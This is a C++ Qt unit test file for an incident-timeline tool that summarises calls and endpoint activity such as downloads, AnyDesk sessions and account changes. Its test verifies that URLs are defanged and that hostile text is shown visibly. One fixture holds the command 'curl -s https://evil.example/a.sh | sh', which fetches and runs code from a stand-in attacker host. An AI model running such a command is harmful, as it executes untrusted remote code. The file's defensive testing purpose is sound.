// SPDX-FileCopyrightText: Callwake contributors
// SPDX-License-Identifier: GPL-3.0-or-later
#include "model/event.h"

#include <QTest>

using namespace callwake;
using namespace std::chrono_literals;

namespace {

Event activity(Kind kind, Activity a)
{
    Event e;
    e.kind = kind;
    e.what = std::move(a);
    return e;
}

Event inbound()
{
    Call call;
    call.direction = Direction::Inbound;
    call.outcome = Outcome::Answered;
    call.remote = {
        {1}, "+44 20 7946 0031", NumberClass::Telephone, NumberPlan::Valid, "+442079460031", "GB"};
    call.displayName = "IT Service Desk";
    Event e;
    e.kind = Kind::Call;
    e.length = 50min;
    e.what = call;
    return e;
}

} // namespace

class TestEvent : public QObject {
    Q_OBJECT

private slots:
    void calls()
    {
        Event e = inbound();
        QCOMPARE(summaryOf(e),
            std::string(
                "Inbound call from +44 20 7946 0031 \"IT Service Desk\", answered, 50 min"));
        std::get<Call>(e.what).remote = {{}, "anonymous", NumberClass::Withheld};
        std::get<Call>(e.what).displayName.clear();
        std::get<Call>(e.what).outcome = Outcome::AnsweredElsewhere;
        e.length = {};
        e.quality = Quality::LengthUnknown;
        QCOMPARE(summaryOf(e),
            std::string("Inbound call from a withheld number, answered elsewhere, length unknown"));
    }

    void activities()
    {
        QCOMPARE(summaryOf(activity(Kind::Navigation, {.url = "https://anydesk.com/en/downloads"})),
            std::string("anydesk[.]com/en/downloads"));
        QCOMPARE(summaryOf(activity(Kind::Execution, {.process = "C:\\Users\\a\\AnyDesk.exe"})),
            std::string("C:\\Users\\a\\AnyDesk.exe"));
        QCOMPARE(summaryOf(activity(
                     Kind::ShellCommand, {.command = "curl -s https://evil.example/a.sh | sh"})),
            std::string("curl -s hxxps://evil[.]example/a.sh | sh"));
        QCOMPARE(summaryOf(activity(
                     Kind::Download, {.url = "https://evil.example/a.exe", .path = "C:\\a.exe"})),
            std::string("Downloaded C:\\a.exe from evil[.]example/a.exe"));
        QCOMPARE(summaryOf(activity(Kind::Download, {})), std::string("Downloaded a file"));
        QCOMPARE(
            summaryOf(activity(Kind::PackageInstall, {.package = "anydesk", .version = "7.0"})),
            std::string("Installed anydesk 7.0"));
        QCOMPARE(summaryOf(activity(Kind::LogCleared, {})), std::string("Log cleared"));
        Activity reset{.account = "desk@northgate.example"};
        reset.result = "Reset user password";
        reset.peer = "ana@northgate.example";
        QCOMPARE(summaryOf(activity(Kind::CredentialReset, reset)),
            std::string(
                "Credential reset of ana@northgate.example by desk@northgate.example (Reset "
                "user password)"));
        for (const char* peer : {"198.51.100.9", "2001:db8::1", "Azure Portal", ""}) {
            reset.peer = peer;
            QCOMPARE(summaryOf(activity(Kind::CredentialReset, reset)),
                std::string("Credential reset desk@northgate.example (Reset user password)"));
        }
    }

    void whatDidNotHappenIsNoDeed_data()
    {
        QTest::addColumn<int>("kind");
        QTest::addColumn<QString>("result");
        QTest::addColumn<QString>("summary");
        const auto row = [](Kind kind, const char* result, const char* summary) {
            QTest::addRow("%d %s", int(kind), result) << int(kind) << result << summary;
        };
        row(Kind::PackageInstall, "", "Installed Tool 1.0");
        row(Kind::PackageInstall, "success", "Installed Tool 1.0");
        row(Kind::PackageInstall, "begun", "Began to install Tool 1.0");
        row(Kind::PackageInstall, "failed: 1603", "Tried to install Tool 1.0 (failed: 1603)");
        row(Kind::Download, "complete", "Downloaded a.exe");
        row(Kind::Download, "in progress", "Began to download a.exe");
        row(Kind::Download, "Cancelled", "Tried to download a.exe (Cancelled)");
        row(Kind::Download, "interrupted", "Tried to download a.exe (interrupted)");
        row(Kind::FileWrite, "blocked by Sysmon", "Tried to write a.exe (blocked by Sysmon)");
        row(Kind::FileWrite, "detected by Defender", "Wrote a.exe (detected by Defender)");
        row(Kind::Execution, "SmartScreen warned", "a.exe -x (SmartScreen warned)");
        row(Kind::Execution, "stopped by Santa", "Tried to run a.exe -x (stopped by Santa)");
        row(Kind::ShellCommand, "refused: command not allowed",
            "Tried to run a.exe -x (refused: command not allowed)");
        row(Kind::ShellCommand, "success", "a.exe -x");
        row(Kind::Execution, "In Progress", "a.exe -x"); // it runs
        row(Kind::Execution, "interrupted", "a.exe -x");
        row(Kind::Execution, "Error 0", "a.exe -x");
        row(Kind::Execution, "error: 0", "a.exe -x");
        row(Kind::Execution, "0 failed", "a.exe -x");
        row(Kind::Execution, "Success (failover)", "a.exe -x");
        row(Kind::PackageInstall, "Completed, 0 failures", "Installed Tool 1.0");
        row(Kind::Execution, "Start failed", "Tried to run a.exe -x (Start failed)");
        row(Kind::Execution, "error: 5", "Tried to run a.exe -x (error: 5)");
        row(Kind::ServiceInstall, "failed", "Tried to install the service Tool 1.0 (failed)");
        row(Kind::NetworkConnection, "failed", "Network connection desk[.]example (failed)");
        row(Kind::NetworkConnection, "", "Network connection desk[.]example");
        row(Kind::DnsQuery, "9003", "Name look-up desk[.]example");
    }

    void whatDidNotHappenIsNoDeed()
    {
        QFETCH(int, kind);
        QFETCH(QString, result);
        Activity a;
        a.command = "a.exe -x";
        a.path = "a.exe";
        a.package = "Tool";
        a.version = "1.0";
        a.peer = "desk.example";
        a.result = result.toStdString();
        QTEST(QString::fromStdString(summaryOf(activity(Kind(kind), a))), "summary");
    }

    void changesNameWhoWasChangedByWhom_data()
    {
        QTest::addColumn<Activity>("change");
        QTest::addColumn<std::string>("summary");
        const auto row = [](const char* name, Activity change, std::string summary) {
            QTest::newRow(name) << std::move(change) << std::move(summary);
        };
        row("Windows", {.account = "CORP\\ana", .peer = "PC1\\mallory", .result = "created"},
            "Account PC1\\mallory changed by CORP\\ana (created)");
        row("member by SID",
            {.account = "CORP\\ana",
                .package = "Builtin\\Administrators",
                .peer = "S-1-5-21-1-2-3-1005",
                .result = "added to a group",
                .detail = "GroupSid=S-1-5-32-544"},
            "Account S-1-5-21-1-2-3-1005 changed by CORP\\ana, Builtin\\Administrators (added to a "
            "group)");
        row("member by name",
            {.account = "CORP\\ana",
                .peer = "CN=Support 7,DC=example",
                .result = "added to a group"},
            "Account CN=Support 7,DC=example changed by CORP\\ana (added to a group)");
        row("role",
            {.account = "ana@example.com",
                .package = "Global Administrator",
                .peer = "mallory@example.com",
                .result = "Add member to role"},
            "Account mallory@example.com changed by ana@example.com, Global Administrator (Add "
            "member to role)");
        row("refused role",
            {.account = "ana@example.com",
                .peer = "mallory@example.com",
                .result = "Add member to role: Failure"},
            "Attempt to change account mallory@example.com by ana@example.com (Add member to role: "
            "Failure)");
        row("audit",
            {.account = "uid 1000",
                .peer = "uid 1003",
                .result = "success",
                .detail = "type=ADD_USER; op=add-user; group=sudo"},
            "Account uid 1003 changed by uid 1000 (add-user)");
        row("failed audit",
            {.account = "uid 1000",
                .peer = "mallory",
                .result = "failed",
                .detail = "type=ADD_USER; op=add-user"},
            "Attempt to change account mallory by uid 1000 (add-user: failed)");
        row("nobody said by whom", {.peer = "support", .result = "success"},
            "Account support changed");
        row("by the provider",
            {.account = "lea@example.com", .peer = "SYSTEM", .result = "account_disabled_hijacked"},
            "Account lea@example.com changed (account_disabled_hijacked)");
        row("own mailbox",
            {.account = "ana@example.com", .package = ".", .result = "New-InboxRule"},
            "Account ana@example.com changed, . (New-InboxRule)");
        row("nothing", {}, "Account changed");
    }

    void changesNameWhoWasChangedByWhom()
    {
        QFETCH(Activity, change);
        QTEST(summaryOf(activity(Kind::AccountChange, change)), "summary");
    }

    void sharesNameTheFileNotAnAccount()
    {
        Activity a;
        a.account = "ana@example.com";
        a.url = "https://example.com/Documents/plan.xlsx";
        a.path = "plan.xlsx";
        a.result = "AnonymousLinkCreated";
        const auto summary = [&] { return summaryOf(activity(Kind::AccountChange, a)); };
        QCOMPARE(summary(),
            std::string("Sharing of plan.xlsx changed by ana@example.com (AnonymousLinkCreated)"));
        a.path.clear();
        a.peer = "box@example.net";
        a.result = "SharingSet";
        QCOMPARE(summary(),
            std::string("Sharing of example[.]com/Documents/plan.xlsx changed by "
                        "ana@example.com, box@example.net (SharingSet)"));
    }

    void sessionsNameTheOtherSide()
    {
        Activity a;
        a.process = "AnyDesk";
        a.peer = "900000017";
        a.result = "let in by the user";
        a.detail = "direction=incoming; time=to the minute";
        const auto summary = [&] { return summaryOf(activity(Kind::RemoteAccess, a)); };
        QCOMPARE(summary(),
            std::string("Remote access: AnyDesk, incoming from 900000017 (let in by the user)"));
        a.detail = "direction=outgoing";
        a.result.clear();
        QCOMPARE(summary(), std::string("Remote access: AnyDesk, outgoing to 900000017"));
        a.detail.clear();
        QCOMPARE(summary(), std::string("Remote access: AnyDesk, with 900000017"));
        a.process.clear();
        a.result = "session begun";
        QCOMPARE(summary(), std::string("Remote access: 900000017 (session begun)"));
    }

    void hostileTextIsMadeVisible()
    {
        Event e = inbound();
        std::get<Call>(e.what).displayName = "Bank\xE2\x80\xAE\x1B[2J";
        QVERIFY(summaryOf(e).find("\"Bank[RLO]\\e[2J\"") != std::string::npos);
        const std::string longText(100'000, 'x');
        QVERIFY(summaryOf(activity(Kind::Execution, {.command = longText})).size() < 1000);
        QCOMPARE(summaryOf(activity(Kind::Execution, {.command = "http://a.example"})),
            std::string("hxxp://a[.]example"));
    }
};

QTEST_GUILESS_MAIN(TestEvent)
#include "tst_event.moc"
